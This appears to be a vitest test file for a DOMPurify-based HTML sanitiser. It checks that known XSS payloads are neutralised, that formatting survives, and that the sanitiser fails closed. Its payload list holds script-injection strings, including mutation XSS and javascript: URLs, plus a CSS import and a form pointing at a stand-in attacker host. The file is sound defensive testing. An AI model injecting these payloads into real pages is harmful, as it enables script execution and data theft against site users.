import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { sanitizeHtml, setSanitizedHtml } from '../../../utils/sanitize';

/** Known XSS shapes: scripts, handlers, javascript: URLs, SVG and MathML tricks, style and mutation XSS. */
const PAYLOADS = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload="window.__pwned=1"><circle r=1></circle></svg>',
  '<a href="javascript:window.__pwned=1">click</a>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<b onmouseover="window.__pwned=1">bold</b>',
  '<math><mi xlink:href="javascript:window.__pwned=1">x</mi></math>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
  '<form action="https://evil.example"><input name=q></form>',
  '<p style="background:url(javascript:window.__pwned=1)">styled</p>',
];

// jsdom, DOMPurify's own Node DOM: happy-dom and linkedom lack pieces it relies on.
const newWindow = () => new JSDOM('<!doctype html><body></body>', { runScripts: 'outside-only' }).window as unknown as Window & { __pwned?: number };

describe('sanitizeHtml', () => {
  const win = newWindow();

  it.each(PAYLOADS)('neutralises %s', (payload) => {
    const clean = sanitizeHtml(payload, win);
    expect(clean).not.toMatch(/<script|onerror|onload|onmouseover|javascript:|<iframe|<svg|<math|<style|<form|<input|<a\b|style=/i);
  });

  it('keeps inline formatting and text', () => {
    expect(sanitizeHtml('<p dir="rtl">حلف <b>الناتو</b> <i>NATO</i></p>', win)).toBe('<p dir="rtl">حلف <b>الناتو</b> <i>NATO</i></p>');
  });

  it('sets only sanitised HTML on an element and runs nothing', () => {
    const w = newWindow();
    const el = w.document.createElement('div');
    w.document.body.appendChild(el);
    for (const p of PAYLOADS) setSanitizedHtml(el, p);
    expect(w.__pwned).toBeUndefined();
    expect(el.querySelector('script, img, svg, a, iframe')).toBeNull();
  });
});

describe('sanitizeHtml where DOMPurify cannot run', () => {
  it('fails closed: escapes everything instead of handing the input back', () => {
    // A window without the DOM pieces DOMPurify needs: it reports itself unsupported.
    const broken = { document: {} } as unknown as Window;
    expect(sanitizeHtml('<img src=x onerror="x()"><b>b</b>', broken)).toBe('&lt;img src=x onerror=&quot;x()&quot;&gt;&lt;b&gt;b&lt;/b&gt;');
  });
});
